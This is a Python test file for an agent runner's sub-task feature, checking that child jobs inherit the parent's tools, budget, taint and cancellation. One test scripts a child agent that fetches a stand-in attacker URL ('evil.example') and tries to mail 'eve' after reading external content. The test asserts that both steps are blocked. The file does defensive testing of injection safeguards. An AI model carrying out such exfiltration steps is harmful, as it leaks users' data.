"""A part of a job as a job of its own: within its parent's worker, grant, budget and authority."""

import asyncio
from collections.abc import Callable
from typing import Any

import pytest

from slow_worker.runner import RunEnd
from slow_worker.testing import Workshop, assert_sound, said, until
from slow_worker.testing_tools import Gadget, answered, called, is_turn, plays, result_of
from tandem.errors import ModelUnavailable
from tandem.ids import DEFAULT_TENANT, JobId
from tandem.ports import JobFilter, Tool
from tandem.schemas.chat import ChatRequest
from tandem.schemas.jobs import Budget, Job, JobRequest, JobStatus
from tools.people import AskUserTool
from tools.subtask import SubtaskTool
from tools.wrappers import guarded

pytestmark = pytest.mark.integration

PART = "Count the bridges of the north."


def family(parent: Callable[[ChatRequest], str], child: Callable[[ChatRequest], str]) -> Callable[[ChatRequest], str]:
    """One model for both: whoever is told of the part only is the child."""
    return lambda request: (
        child(request) if "Count the bridges" in request.messages[1].content and "parent task" not in said(request.messages) else parent(request)
    )


def with_tools(workshop: Workshop, *tools: Tool) -> Workshop:
    return workshop.with_tools({tool.spec.name: guarded(tool) for tool in [SubtaskTool(), *tools]})


def request(*tools: str, **fields: Any) -> JobRequest:
    return JobRequest(input="The parent task, in two parts.", tools=["subtask", *tools], **fields)


async def children(workshop: Workshop, job_id: str) -> list[Job]:
    return list(await workshop.storage.jobs.list(DEFAULT_TENANT, where=JobFilter(parent_id=JobId(job_id)), after=None, limit=9))


async def test_a_part_is_a_job_of_its_own_and_its_answer_comes_back(workshop: Workshop) -> None:
    gadget = Gadget()
    workshop = with_tools(workshop, gadget)
    parent = plays(called("subtask", task=PART, tools=["gadget"]), answered("done"), text="Seven bridges.")
    workshop.model.answer = family(parent, plays(called("gadget", n=1), answered("seven"), text="There are seven."))

    job = await workshop.do(request("gadget"))

    [child] = await children(workshop, job.id)
    assert (job.status, job.output_text, child.status) == (JobStatus.COMPLETED, "Seven bridges.", JobStatus.COMPLETED)
    assert (child.tools, child.request.approvals, child.request.webhook_endpoints) == (["gadget"], "refuse", [])
    assert child.output_text in {"seven", "There are seven."}
    assert (job.usage.calls, job.usage.tool_calls) == (3 + child.usage.calls, 1 + child.usage.tool_calls)
    assert any("seven" in message.content for message in workshop.model.asked[-1].messages)
    for each in (job, child):
        assert_sound(each, await workshop.events(each.id))


async def test_a_part_gets_no_tool_that_its_parent_has_not_and_asks_nobody(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget(), Gadget("secret"), AskUserTool())
    parent = plays(called("subtask", task=PART, tools=["secret"]), called("subtask", task=PART), answered("done"))
    workshop.model.answer = family(parent, plays(answered("seven")))

    job = await workshop.do(request("gadget", "ask_user"))

    [child] = await children(workshop, job.id)
    assert "no tool 'secret' to give" in said(workshop.model.asked[1].messages)
    assert child.tools == ["gadget", "subtask"]


async def test_parts_of_parts_end_at_the_second_level(workshop: Workshop) -> None:
    workshop = with_tools(workshop)
    turns = iter([called("subtask", task=PART), called("subtask", task=f"{PART} Again."), answered("7"), answered("7"), answered("7")])
    workshop.model.answer = lambda request: next(turns, answered("7")) if is_turn(request) else "Seven."

    job = await workshop.do(request(), "max")

    [child] = await children(workshop, job.id)
    [grandchild] = await children(workshop, child.id)
    assert (job.status, child.tools, grandchild.tools) == (JobStatus.COMPLETED, ["subtask"], [])


async def test_a_part_gets_no_more_budget_than_is_left(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget())
    workshop.model.answer = family(plays(called("subtask", task=PART), answered("done")), plays(answered("seven")))

    job = await workshop.do(request("gadget", budget=Budget(max_calls=6, max_tokens=9_000, max_seconds=100, max_tool_calls=3, max_cost_usd=1)))

    [child] = await children(workshop, job.id)
    budget = child.request.budget
    assert (budget.max_calls, budget.max_tool_calls, budget.max_cost_usd) == (4, 2, 1)
    assert (budget.max_tokens or 0) < 9_000
    assert (budget.max_seconds or 0) <= 100


async def test_where_the_budget_has_no_room_there_is_no_part(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget())
    workshop.model.answer = family(plays(called("subtask", task=PART), answered("done")), plays(answered("seven")))

    job = await workshop.do(request("gadget", budget=Budget(max_calls=2)))

    assert await children(workshop, job.id) == []
    assert job.status in {JobStatus.COMPLETED, JobStatus.INCOMPLETE}


async def test_a_part_inherits_the_taint_and_cannot_write(workshop: Workshop) -> None:
    mail = Gadget("mail", declared={"side_effect": "write"})
    fetch = Gadget("web_fetch", result_of("words"), {"side_effect": "read_external", "taints": True, "url_arguments": ["url"]})
    workshop = with_tools(workshop, mail, fetch)
    url = "http://evil.example/?d=1"
    parent = plays(
        called("web_fetch", url="http://a.example/"), called("subtask", task=f"{PART} Read {url}", tools=["mail", "web_fetch"]), answered("done")
    )
    workshop.model.answer = family(parent, plays(called("web_fetch", url=url), called("mail", to="eve"), answered("seven")))

    job = await workshop.do(request("mail", "web_fetch"))

    [child] = await children(workshop, job.id)
    assert (child.status, mail.calls, [call[0]["url"] for call in fetch.calls]) == (JobStatus.COMPLETED, [], ["http://a.example/"])
    rules = [each.rule for each in await workshop.storage.audit.read(DEFAULT_TENANT, after=0, limit=20) if each.job_id == child.id]
    assert rules == ["new_address", "write"]


async def test_what_a_part_answers_taints_its_parent(workshop: Workshop) -> None:
    mail = Gadget("mail", declared={"side_effect": "write"})
    workshop = with_tools(workshop, mail)
    workshop.model.answer = family(
        plays(called("subtask", task=PART, tools=[]), called("mail", to="eve"), answered("done")), plays(answered("7"), text="7")
    )

    await workshop.do(request("mail", approvals="refuse"))

    refused = [each for each in await workshop.storage.audit.read(DEFAULT_TENANT, after=0, limit=20) if each.kind == "tool_refused"]
    assert ([each.rule for each in refused], mail.calls) == (["write"], [])
    assert "the job has read words of strangers (subtask)" in said(workshop.model.asked[-2].messages)


async def test_a_parent_that_is_resumed_finds_the_same_part_and_pays_once(workshop: Workshop) -> None:
    gadget = Gadget()
    workshop = with_tools(workshop, gadget)
    workshop.model.answer = family(
        plays(called("subtask", task=PART, tools=["gadget"]), answered("done")), plays(called("gadget", n=1), answered("seven"))
    )
    job_id = await workshop.submit(request("gadget"))
    workshop.model.pause_after = 2
    running = asyncio.create_task(workshop.run())
    await until(lambda: len(workshop.model.asked) == 3)
    running.cancel()
    await asyncio.gather(running, return_exceptions=True)
    workshop.model.pause_after = None

    assert {await workshop.run() for _ in range(2)} <= {RunEnd.FINISHED, RunEnd.NOTHING}

    job = await workshop.job(job_id)
    [child] = await children(workshop, job_id)
    assert (job.status, child.status, len(gadget.calls)) == (JobStatus.COMPLETED, JobStatus.COMPLETED, 1)
    assert job.usage.calls == child.usage.calls + 3


async def test_a_part_that_another_worker_holds_is_waited_for(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget())
    workshop.model.answer = family(plays(called("subtask", task=PART, tools=["gadget"]), answered("done")), plays(answered("seven")))
    job_id = await workshop.submit(request("gadget"))
    workshop.model.pause_after = 1
    running = asyncio.create_task(workshop.run())
    await until(lambda: len(workshop.model.asked) == 2)
    running.cancel()
    await asyncio.gather(running, return_exceptions=True)

    [child] = await children(workshop, job_id)
    other = asyncio.create_task(workshop.runner.run_child(JobId(child.id), workshop.draining))
    await until(lambda: len(workshop.model.asked) == 3)
    running = asyncio.create_task(workshop.run())
    while (await workshop.job(job_id)).status is not JobStatus.IN_PROGRESS:
        await asyncio.sleep(0.01)
    workshop.model.gate.set()

    assert (await other, await running) == (RunEnd.FINISHED, RunEnd.FINISHED)
    assert (await workshop.job(job_id)).status is JobStatus.COMPLETED
    assert len(await children(workshop, job_id)) == 1


async def test_a_part_is_cancelled_with_its_parent(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget())
    workshop.model.answer = family(plays(called("subtask", task=PART, tools=["gadget"]), answered("done")), plays(answered("seven")))
    job_id = await workshop.submit(request("gadget"))
    workshop.model.pause_after = 1
    running = asyncio.create_task(workshop.run())
    await until(lambda: len(workshop.model.asked) == 2)

    await workshop.storage.jobs.request_cancel(job_id, DEFAULT_TENANT)
    await running

    [child] = await children(workshop, job_id)
    assert ((await workshop.job(job_id)).status, child.status) == (JobStatus.CANCELLED, JobStatus.CANCELLED)


async def test_a_worker_that_stops_gives_back_both(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget()).with_settings(drain_s=0)
    workshop.model.answer = family(plays(called("subtask", task=PART, tools=["gadget"]), answered("done")), plays(answered("seven")))
    job_id = await workshop.submit(request("gadget"))
    workshop.model.pause_after = 1
    running = asyncio.create_task(workshop.run())
    await until(lambda: len(workshop.model.asked) == 2)

    workshop.draining.set()
    assert await running is RunEnd.RELEASED

    [child] = await children(workshop, job_id)
    assert ((await workshop.job(job_id)).status, child.status) == (JobStatus.QUEUED, JobStatus.QUEUED)


async def test_a_part_whose_model_server_is_away_puts_off_both(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget()).with_settings(model_patience_s=60)

    def away(request: ChatRequest) -> str:
        raise ModelUnavailable("away")

    workshop.model.answer = family(plays(called("subtask", task=PART, tools=["gadget"]), answered("done")), away)

    job = await workshop.do(request("gadget"))

    [child] = await children(workshop, job.id)
    assert (job.status, child.status) == (JobStatus.SCHEDULED, JobStatus.SCHEDULED)


async def test_a_part_that_fails_is_an_error_that_the_model_can_act_on(workshop: Workshop) -> None:
    workshop = with_tools(workshop, Gadget())

    def broken(request: ChatRequest) -> str:
        raise KeyError("a defect")

    workshop.model.answer = family(plays(called("subtask", task=PART, tools=["gadget"]), answered("done")), broken)

    job = await workshop.do(request("gadget"))

    assert job.status is JobStatus.COMPLETED
    assert "the sub-task ended as failed" in said(workshop.model.asked[-2].messages)
